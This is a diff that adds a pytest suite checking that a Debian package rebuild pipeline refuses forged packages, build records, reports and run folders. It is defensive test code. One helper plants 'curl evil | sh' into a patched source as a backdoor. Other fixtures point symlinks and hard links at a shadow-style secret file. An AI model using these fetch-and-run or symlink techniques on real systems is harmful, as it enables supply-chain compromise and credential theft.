@@ -1,0 +1,482 @@
+"""Somebody gives us packages, or a folder, and says that they are what they are not.
+
+Packages that were built elsewhere go to ``respin prove --debs``, a run's folder to ``respin
+publish``. What comes out is signed and goes onto routers; so a report, a .changes, a .buildinfo
+are a stranger's words, and a folder may hold a way to a file of ours.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+from support import onerelease, packages, standin
+from support.filled import filled
+from support.onerelease import Here
+
+from pipeline import copied, earlier, parts, report
+from pipeline.adopt import adopt
+from pipeline.cache import Cache, file_sha256
+from pipeline.errors import BuildError
+from pipeline.model import Patched, Release, SmokeReport, Source
+from pipeline.order import Order
+from pipeline.report import Outcome
+from pipeline.work import Work
+
+RELEASE = Release(distro="debian", codename="bookworm", version="12")
+OURS = "6.1.0-1+bpf1"
+GOLDEN = Path(__file__).parents[1] / "golden/fixes"
+
+# -- packages that were built elsewhere ---------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Return a folder with a patched source, and in ``debs`` what was built of it."""
+    top = tmp_path_factory.mktemp("honest")
+    packages.make_source(top / "patched", version=OURS)
+    (top / "debs").mkdir()
+    packages.make_deb(top / "debs", "iproute2", OURS, architecture="amd64")
+    packages.make_upload(top / "debs", top / f"patched/iproute2_{OURS}.dsc")
+    return top
+
+
+@pytest.fixture
+def given(honest: Path, tmp_path: Path) -> Path:
+    """Return a copy of it, for somebody to forge."""
+    return shutil.copytree(honest, tmp_path / "given")
+
+
+def taken(given: Path, dest: Path) -> tuple[str, ...]:
+    """Take the packages; return what is not verified."""
+    source = filled(Source, name="iproute2", version="6.1.0-1", release=RELEASE)
+    dsc = given / f"patched/iproute2_{OURS}.dsc"
+    patched = filled(Patched, source=source, version=OURS, dsc=dsc)
+    return adopt(patched, given / "debs", dest)[1]
+
+
+def _info(given: Path) -> Path:
+    return given / f"debs/iproute2_{OURS}_amd64.buildinfo"
+
+
+def _said(given: Path, change: Callable[[str], str]) -> None:
+    """Let the .buildinfo say something else, and the .changes list that one."""
+    path = _info(given)
+    text = change(path.read_text())
+    changes = path.with_suffix(".changes")
+    old = packages.sums([path])
+    path.write_text(text)
+    new = packages.sums([path])
+    changes.write_text(changes.read_text().replace(old.splitlines()[1], new.splitlines()[1]))
+
+
+def _zeroed(text: str) -> str:
+    lines = text.splitlines(keepends=True)
+    return "".join(f" {'0' * 64}{li[65:]}" if li[65:66] == " " else li for li in lines)
+
+
+def _another(given: Path, **changes: str) -> None:
+    """Put another package in the place of the one that was built, in all that is said of it."""
+    folder = given / "debs"
+    shutil.rmtree(folder)
+    folder.mkdir()
+    name, version, fields = "iproute2", changes.pop("version", OURS), dict(changes)
+    named = fields.pop("name", name)
+    deb = packages.make_deb(folder, named, version, architecture="amd64", fields=fields)
+    if "file" in fields:
+        deb.rename(folder / fields["file"])
+    packages.make_upload(folder, given / f"patched/iproute2_{OURS}.dsc")
+
+
+def _other_source(given: Path) -> None:
+    other = packages.make_source(given / "other", version=OURS, files={"README": "a backdoor\n"})
+    packages.make_upload(given / "debs", other)
+
+
+def _two_infos(given: Path) -> None:
+    more = given / "debs/more.buildinfo"
+    shutil.copy(_info(given), more)
+    changes = _info(given).with_suffix(".changes")
+    changes.write_text(changes.read_text() + packages.sums([more]).splitlines()[1] + "\n")
+
+
+def _swapped(given: Path) -> None:
+    """Build a package anew, and list it in the .changes alone."""
+    info = _info(given).read_bytes()
+    _another(given, Homepage="a backdoor")
+    _said(given, lambda _: info.decode())
+
+
+def _link(given: Path) -> None:
+    deb = next((given / "debs").glob("*.deb"))
+    deb.rename(given / "elsewhere.deb")
+    deb.symlink_to(given / "elsewhere.deb")
+    os.mkfifo(given / "fifo")
+    _info(given).unlink()
+    _info(given).symlink_to(given / "fifo")
+
+
+FORGED: dict[str, Callable[[Path], object]] = {
+    "hashes that are zero": lambda g: _said(g, _zeroed),
+    "another source": _other_source,
+    "another version": lambda g: _another(g, version="6.1.0-1+bpf2"),
+    "a package of another source": lambda g: _another(g, Source="bash"),
+    "a package of the same source at another version": lambda g: _another(
+        g, Source="iproute2 (6.1.0-9)"
+    ),
+    "a package that the source does not make": lambda g: _another(g, name="bash"),
+    "a package under the name of another": lambda g: _another(g, file=f"iproute2_{OURS}_arm64.deb"),
+    "two files that say how it was built": _two_infos,
+    "a package that was swapped after the build": _swapped,
+    "a .buildinfo of another source": lambda g: _said(
+        g, lambda t: t.replace("Source: iproute2", "Source: bash")
+    ),
+    "a .buildinfo that lists no package": lambda g: _said(
+        g, lambda t: "".join(li for li in t.splitlines(keepends=True) if ".deb" not in li)
+    ),
+    "a .buildinfo that nobody writes to": _link,
+}
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("forged", FORGED)
+def test_packages_that_contradict_what_is_said_of_them(
+    given: Path, forged: str, tmp_path: Path
+) -> None:
+    assert taken(given, tmp_path / "control") == ()
+    FORGED[forged](given)
+    with pytest.raises(BuildError):
+        taken(given, tmp_path / "taken")
+
+
+@pytest.fixture
+def stages(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Do what the archive and the guest do without any."""
+    monkeypatch.setattr(Work, "archive", SimpleNamespace(trust=lambda: ()))
+    monkeypatch.setattr(Work, "control", lambda work, source: ())
+    monkeypatch.setattr(Work, "prepare_guest", lambda work: None)
+    monkeypatch.setattr(Work, "smoke", lambda work, *_: filled(SmokeReport, kernel="made up"))
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("named", [True, False], ids=["control", "not named"])
+@pytest.mark.usefixtures("stages")
+def test_packages_that_nobody_says_were_built_of_the_patched_source(
+    tmp_path: Path, named: bool
+) -> None:
+    """They load; that is all that is proven, and so it is not published."""
+    dsc = packages.make_source(tmp_path / "made", version="6.1.0-1")
+    run = standin.make(tmp_path / "run", dsc, RELEASE)
+    patched = earlier.read(run).patched
+    assert patched
+    debs = shutil.copytree(run / "debs", tmp_path / "debs")
+    packages.make_upload(debs, patched.dsc, info_dsc=named)
+    order = Order(release=RELEASE, fixes=(), cache=Cache(tmp_path / "cache"))
+    done = parts.prove_only(order, run, debs, tmp_path / "proven")
+    assert done.outcome is (Outcome.FIXED if named else Outcome.PROVEN)
+    values = json.loads((tmp_path / "proven/report.json").read_text())
+    assert len(values["unverified"]) == (0 if named else 1)
+    assert named or patched.dsc.name in values["unverified"][0]
+    # Proving it again proves no more.
+    again = parts.prove_only(order, tmp_path / "proven", None, tmp_path / "again")
+    assert again.outcome is done.outcome and again.unverified == done.unverified
+
+
+# -- the folder of a run ------------------------------------------------------------------
+
+
+@pytest.fixture
+def here(tmp_path: Path) -> Iterator[Here]:
+    """A release that needs nothing, and the folder of a run that somebody has made of it."""
+    with onerelease.begin(tmp_path) as begun:
+        begun.has("6.1.0-1", good=False)
+        assert begun.nights.night(0).code == 0
+        shutil.rmtree(begun.folder / "prepared/bookworm_6.1.0-1")
+        begun.prepare("6.1.0-1")
+        yield begun
+
+
+@pytest.fixture
+def folder(here: Here) -> Path:
+    """Return a copy of the folder, for somebody to forge."""
+    return shutil.copytree(here.folder / "prepared/bookworm_6.1.0-1", here.folder / "forged")
+
+
+def refused(here: Here, folder: Path) -> str:
+    """Hold ``respin publish`` to refuse a folder, and to leave nothing of it."""
+
+    def seen() -> dict[str, int]:
+        state = here.nights.world.folder
+        there = [*state.rglob("*"), *(state / "runs").rglob(".*")]
+        return {
+            str(p): p.lstat().st_nlink
+            for p in there
+            if not p.name.startswith(("state.sqlite", "lock")) and p.suffix != ".lock"
+            if "gnupg" not in p.parts
+        }
+
+    before = seen()
+    said = here.respin("publish", folder)
+    assert (said.status, said.out) == (17, ""), said
+    assert said.err.startswith("respin: ") and "Traceback" not in said.err
+    assert seen() == before
+    assert list(here.nights.offered("bookworm")) == []
+    return said.err
+
+
+@pytest.mark.attack
+def test_the_control(here: Here, folder: Path) -> None:
+    """What is as it says is published, and none of the made-up parts stands in the way."""
+    said = here.respin("publish", folder)
+    assert said.status == 0, said.err
+    assert list(here.nights.offered("bookworm")) == [OURS]
+    shown = {p.name for p in (here.nights.world.public / "runs").rglob("*") if p.is_file()}
+    assert {"report.json", "build.log"} <= shown
+
+
+def _sparse(folder: Path) -> None:
+    (folder / "logs/big.log").touch()
+    os.truncate(folder / "logs/big.log", copied.BYTES + 1)
+
+
+def _many(folder: Path) -> None:
+    for number in range(copied.FILES):
+        (folder / f"logs/{number}.log").touch()
+
+
+def _deep(folder: Path) -> None:
+    path = folder
+    for _ in range(copied.DEEPEST + 2):
+        path /= "deeper"
+    path.mkdir(parents=True)
+
+
+def _file(folder: Path, mode: int) -> None:
+    (folder / "logs/open.log").write_text("")
+    (folder / "logs/open.log").chmod(mode)
+
+
+SECRETS: dict[str, Callable[[Path, Path], object]] = {
+    "a link to a file": lambda f, secret: (f / "logs/x.log").symlink_to(secret),
+    "a link in the place of a log": lambda f, secret: (
+        (f / "logs/build.log").unlink(),
+        (f / "logs/build.log").symlink_to(secret),
+    ),
+    "a link in the place of all logs": lambda f, secret: (
+        shutil.rmtree(f / "logs"),
+        (f / "logs").symlink_to(secret.parent),
+    ),
+    "a link in the place of a patch": lambda f, secret: (f / "patched/patches/x.patch").symlink_to(
+        secret
+    ),
+    "a link to nothing": lambda f, _: (f / "logs/x.log").symlink_to("/nonexistent"),
+    "another name of a file": lambda f, secret: os.link(secret, f / "logs/x.log"),
+    "a pipe": lambda f, _: os.mkfifo(f / "logs/x.log"),
+    "a file without end": lambda f, _: _sparse(f),
+    "files without number": lambda f, _: _many(f),
+    "folders without end": lambda f, _: _deep(f),
+    "a file that every user may write": lambda f, _: _file(f, 0o666),
+    "a folder that every user may write": lambda f, _: (f / "logs").chmod(0o777),
+}
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("secret", SECRETS)
+def test_a_folder_that_leads_elsewhere(here: Here, folder: Path, secret: str) -> None:
+    """``logs/x -> /etc/shadow`` was served to the world."""
+    victim = here.folder / "victims/secret.log"
+    victim.parent.mkdir()
+    victim.write_text("root:$6$secret")
+    victim.chmod(0o600)
+    SECRETS[secret](folder, victim)
+    refused(here, folder)
+    assert victim.stat().st_mode & 0o777 == 0o600
+    for path in here.nights.world.folder.rglob("*"):
+        if path.is_file() and not path.is_symlink():
+            assert b"$6$secret" not in path.read_bytes(), path
+
+
+@pytest.mark.attack
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
+def test_a_folder_of_another_user(here: Here, folder: Path) -> None:
+    os.chown(folder / "logs/build.log", 65534, 65534)
+    assert "belongs to another user" in refused(here, folder)
+    os.chown(folder / "logs/build.log", 0, 0)
+    os.chown(folder / "logs", 65534, 65534)
+    assert "belongs to another user" in refused(here, folder)
+
+
+def edit(
+    folder: Path, change: Callable[[dict[str, Any]], object], name: str = "report.json"
+) -> None:
+    path = folder / name
+    values = json.loads(path.read_text())
+    change(values)
+    path.write_text(json.dumps(values))
+
+
+def _backdoor(folder: Path) -> None:
+    """Add to the patched source what no fix of ours adds, and all hashes with it."""
+    old = folder / "patched" / f"iproute2_{OURS}.dsc"
+    work = folder.parent / "backdoor"
+    subprocess.run(["dpkg-source", "--no-check", "-x", old, work], check=True, capture_output=True)
+    (work / "debian/backdoor").write_text("curl evil | sh\n")
+    for path in (folder / "patched").glob("*.orig.tar.*"):
+        shutil.copy(path, work.parent)
+    subprocess.run(
+        ["dpkg-source", "-b", work.name],
+        cwd=work.parent,
+        env=packages.ENVIRONMENT,
+        check=True,
+        capture_output=True,
+    )
+    for path in work.parent.glob(f"iproute2_{OURS}.*"):
+        if path.is_file():
+            shutil.copy(path, folder / "patched")
+    _again(folder)
+
+
+def _again(folder: Path) -> None:
+    """Let the report have the hashes of what is there now."""
+    done = earlier.read(folder)
+    assert done.patched and done.built
+
+    def now(artifact: Any) -> Any:
+        path = artifact.path
+        return replace(artifact, sha256=file_sha256(path), size=path.stat().st_size)
+
+    built = replace(
+        done.built,
+        debs=tuple(map(now, done.built.debs)),
+        changes=now(done.built.changes),
+        buildinfo=now(done.built.buildinfo),
+    )
+    patched = replace(done.patched, sha256=file_sha256(done.patched.dsc))
+    files = tuple(map(now, done.source.files))
+    source = replace(done.source, files=files)
+    report.write(replace(done, built=built, patched=patched, source=source), folder)
+
+
+def _package(folder: Path, **fields: str) -> None:
+    debs = folder / "debs"
+    (deb,) = debs.glob("*.deb")
+    deb.unlink()
+    made = packages.make_deb(debs, "iproute2", OURS, architecture="amd64", fields=fields)
+    shutil.rmtree(debs / f".iproute2-{OURS}")
+    assert made == deb
+    packages.make_upload(debs, folder / f"patched/iproute2_{OURS}.dsc", info_dsc=False)
+    _again(folder)
+
+
+def _source(folder: Path) -> None:
+    """Say that it was made from a source that the archive never had."""
+    dsc = folder / "source/iproute2_6.1.0-1.dsc"
+    dsc.write_bytes(dsc.read_bytes().replace(b"Standards-Version: 4.6.2", b"Standards-Version: 4"))
+    _again(folder)
+
+
+REPORTS: dict[str, tuple[str, Callable[[Path], object]]] = {
+    "a source that no index lists": ("no signed index of bookworm lists the source", _source),
+    "a source that is not there": (
+        "is missing",
+        lambda f: next((f / "source").glob("*.orig.tar.gz")).unlink(),
+    ),
+    "a patched source with a back door": ("is not what this respin makes", _backdoor),
+    "a package of another source": (
+        "is not a package of iproute2",
+        lambda f: _package(f, Source="bash"),
+    ),
+    "a number that is not its version's": (
+        "is not what respin calls rebuild 7",
+        lambda f: edit(f, lambda lock: lock.update(number=7), "respin.lock"),
+    ),
+    "packages of which not all is verified": (
+        "its outcome is proven",
+        lambda f: edit(f, lambda r: r.update(outcome="proven", unverified=["made up"])),
+    ),
+    "a package that the build does not list": (
+        "is not what",
+        lambda f: (
+            packages.make_deb(f / "debs", "iproute2-doc", OURS),
+            edit(f, lambda r: r["built"]["debs"].append(r["built"]["debs"][0])),
+            edit(
+                f,
+                lambda r: r["built"]["debs"][1].update(
+                    path=f"debs/iproute2-doc_{OURS}_all.deb",
+                    sha256=packages.sums([f / f"debs/iproute2-doc_{OURS}_all.deb"]).split()[1],
+                ),
+            ),
+        ),
+    ),
+    "a path to another folder": (
+        "is not the file that this run made",
+        lambda f: edit(
+            f,
+            lambda r: r["patched"].update(
+                dsc=f"../prepared/bookworm_6.1.0-1/patched/iproute2_{OURS}.dsc"
+            ),
+        ),
+    ),
+}
+
+
+@pytest.mark.attack
+@pytest.mark.parametrize("forged", REPORTS)
+def test_a_report_that_does_not_say_what_is_so(here: Here, folder: Path, forged: str) -> None:
+    words, change = REPORTS[forged]
+    change(folder)
+    assert words in refused(here, folder)
+
+
+@pytest.mark.attack
+def test_a_source_that_only_looks_like_ours(tmp_path: Path, here: Here) -> None:
+    """With the real patch stage: ours is taken, the same with one more line is not."""
+    tree = GOLDEN / "v4.10-three-functions/in"
+    files = {str(p.relative_to(tree)): p.read_text() for p in tree.rglob("*.[ch]")}
+    made = packages.make_source(here.folder / "made/4.10.0-1", version="4.10.0-1", files=files)
+    here.distro.now_has(here.dsc("6.1.0-1"), made)
+    here.nights.world = replace(here.nights.world, patch=parts.patch_only)
+    out = here.folder / "real"
+    config = here.folder / "respin.toml"
+    cache = here.nights.world.cache.root
+    said = onerelease.respin(
+        config, cache, "patch", "--release", "bookworm", "--version", "4.10.0-1", "--out", out
+    )
+    assert said.status == 0, said.err
+    done = earlier.read(out)
+    assert done.patched
+    finding = next(f for f in done.findings if f.fix == "stt-object")
+    built = standin.built_of(out, done.source, finding, done.patched)
+    report.write(replace(built, findings=done.findings), out)
+    shutil.copytree(out, here.folder / "forged")
+    forged = here.folder / "forged"
+    patched = forged / "patched/iproute2_4.10.0-1+bpf1.dsc"
+    work = here.folder / "work"
+    subprocess.run(
+        ["dpkg-source", "--no-check", "-x", patched, work], check=True, capture_output=True
+    )
+    patch = work / "debian/patches/respin-stt-object.patch"
+    patch.write_text(patch.read_text().replace("Description: ", "Description: Not ours. "))
+    shutil.copy(forged / "patched/iproute2_4.10.0.orig.tar.gz", here.folder)
+    subprocess.run(
+        ["dpkg-source", "-b", work.name],
+        cwd=here.folder,
+        env=packages.ENVIRONMENT,
+        check=True,
+        capture_output=True,
+    )
+    for path in here.folder.glob("iproute2_4.10.0-1+bpf1.*"):
+        shutil.copy(path, forged / "patched")
+    _again(forged)
+    assert "is not what this respin makes" in refused(here, forged)
+    said = here.respin("publish", out)
+    assert said.status == 0, said.err
+    assert list(here.nights.offered("bookworm")) == ["4.10.0-1+bpf1"]
